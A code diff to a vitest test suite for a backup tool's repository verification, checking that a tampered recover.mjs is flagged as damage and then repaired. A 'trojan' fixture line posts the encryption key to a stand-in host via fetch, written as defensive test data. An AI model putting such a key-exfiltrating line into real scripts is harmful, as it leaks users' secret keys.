@@ -1,4 +1,4 @@
-import { readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { verifyFailures } from '../../../src/cli/commands/verify.js'
@@ -11,13 +11,18 @@ import { formatChecksums, parseChecksums } from '../../../src/repository/checksu
 import { openRepository } from '../../../src/repository/open.js'
 import { writeRecoverySignature } from '../../../src/repository/recovery-signature.js'
 import { sha256Of } from '../../../src/repository/root-files.js'
+import { recoveryFiles } from '../../../src/repository/root-making.js'
+import { editionOf } from '../../../src/repository/root-trust.js'
 import { temporaryDirectory } from '../../helpers/temporary.js'
 import { type Application, application } from '../application.js'
 import { encryptedApplication, keyFile } from '../sealing/encrypted.js'
 import { intruderOf } from './bench.js'
 
+const edition = editionOf((await recoveryFiles()).get('recover.mjs'))
+
 async function backedUp(isEncrypted: boolean): Promise<Application> {
-  const app = isEncrypted ? await encryptedApplication([keyFile()]) : await application()
+  const wishes = { database: { rows: 3, pageSize: 512 } }
+  const app = isEncrypted ? await encryptedApplication([keyFile()], wishes) : await application(wishes)
   expect((await app.create({ init: true })).failures).toEqual([])
   return app
 }
@@ -39,12 +44,12 @@ async function verified(app: Application, path = app.source.repository.path) {
 
 const genuine = { status: 'genuine', exit: undefined }
 const untrusted = { status: 'untrusted', exit: 'damage', code: 'recovery_untrusted' }
-const trojan = (edition: string) => `// ${edition}\nfetch('https://example.org/', { method: 'POST', body: key })\n`
+const trojan = (line: string) => `// ${line}\nfetch('https://example.org/', { method: 'POST', body: key })\n`
 
 const trojans: [string, string][] = [
   ['no edition', trojan('hello')],
   ['an edition of before', trojan('edition 1')],
-  ['our edition', trojan('edition 3')],
+  ['our edition', trojan(`edition ${edition}`)],
   ['an absurd edition', trojan('edition 999999')],
 ]
 
@@ -52,15 +57,12 @@ describe.each([
   ['in plain', false],
   ['encrypted', true],
 ])('the root of a repository %s', (_kind, isEncrypted) => {
-  it('is genuine as it was made, and verify says its SHA-256', async () => {
-    const app = await backedUp(isEncrypted)
-    const sha256 = sha256Of(readFileSync(join(app.source.repository.path, 'recover.mjs')))
-    expect(await verified(app)).toMatchObject({ ...genuine, sha256, edition: 3 })
-  })
-
-  it('is damage with any trojan, and the command in the hint mends it', async () => {
+  it('is genuine as it was made, damage with any trojan, and mended by the command in the hint, create, copy and keys add', async () => {
     const app = await backedUp(isEncrypted)
     const { repository } = app.source
+    const sha256 = sha256Of(readFileSync(join(app.source.repository.path, 'recover.mjs')))
+    expect(await verified(app)).toMatchObject({ ...genuine, sha256, edition })
+
     for (const [what, text] of trojans) {
       exchange(repository.path, 'recover.mjs', text)
       exchange(repository.path, 'RECOVER.txt', 'run recover.mjs with your key\n')
@@ -69,13 +71,9 @@ describe.each([
       expect(found.hint).toContain(`nexus-backup keys recovery --repo ${repository.path}`)
       const mended = await renewRoot(app.context, app.journal, { repository, dryRun: false })
       expect(mended, what).toMatchObject({ status: 'genuine', renewed: true, signed: isEncrypted })
-      expect(await verified(app), what).toMatchObject(genuine)
     }
-  })
+    expect(await verified(app)).toMatchObject(genuine)
 
-  it('is mended by the next create, keys add and copy', async () => {
-    const app = await backedUp(isEncrypted)
-    const { repository } = app.source
     const copied = { name: 'copy', path: join(temporaryDirectory(), 'copy') }
     const tasks = [{ source: 'app', from: repository, to: copied }]
     const ways: [string, string, () => Promise<unknown>][] = [
@@ -96,12 +94,13 @@ describe.each([
 })
 
 describe('a recover.mjs of a later edition', () => {
-  const later = '// edition 4\n// of a later version\n'
+  const later = `// edition ${edition + 1}\n// of a later version\n`
 
   it('is kept and cannot be judged where nothing is encrypted', async () => {
     const app = await backedUp(false)
     exchange(app.source.repository.path, 'recover.mjs', later)
-    expect(await verified(app)).toMatchObject({ status: 'newer', edition: 4, exit: 'partial', code: 'recovery_newer' })
+    const newer = { status: 'newer', edition: edition + 1, exit: 'partial', code: 'recovery_newer' }
+    expect(await verified(app)).toMatchObject(newer)
     await app.create()
     expect(readFileSync(join(app.source.repository.path, 'recover.mjs'), 'utf8')).toBe(later)
   })
@@ -124,23 +123,17 @@ describe('a recover.mjs of a later edition', () => {
 })
 
 describe('what hosts have signed of a root', () => {
-  it('is written by the first create, kept by the host and no reason for damage when it is garbage', async () => {
+  it('is written by the first create, no damage as garbage, and tells that nexus-backup.json was exchanged', async () => {
     const app = await backedUp(true)
     const { path } = app.source.repository
     const directory = join(path, 'keys', 'recovery')
     expect(readdirSync(directory)).toHaveLength(1)
     writeFileSync(join(directory, '0123456789abcdef-0123456789abcdef.json'), 'garbage')
     expect(await verified(app)).toMatchObject(genuine)
-  })
-
-  it('tells that nexus-backup.json was exchanged, checksums to match', async () => {
-    const app = await backedUp(true)
-    const { path } = app.source.repository
     const text = readFileSync(join(path, 'nexus-backup.json'), 'utf8')
     const { created } = JSON.parse(text)
     exchange(path, 'nexus-backup.json', text.replace(created, '2020-01-01T00:00:00.000Z'))
     const found = await verified(app).catch((error: { kind: string }) => ({ exit: error.kind }))
     expect(found.exit).toBe('damage')
-    rmSync(path, { recursive: true })
   })
 })
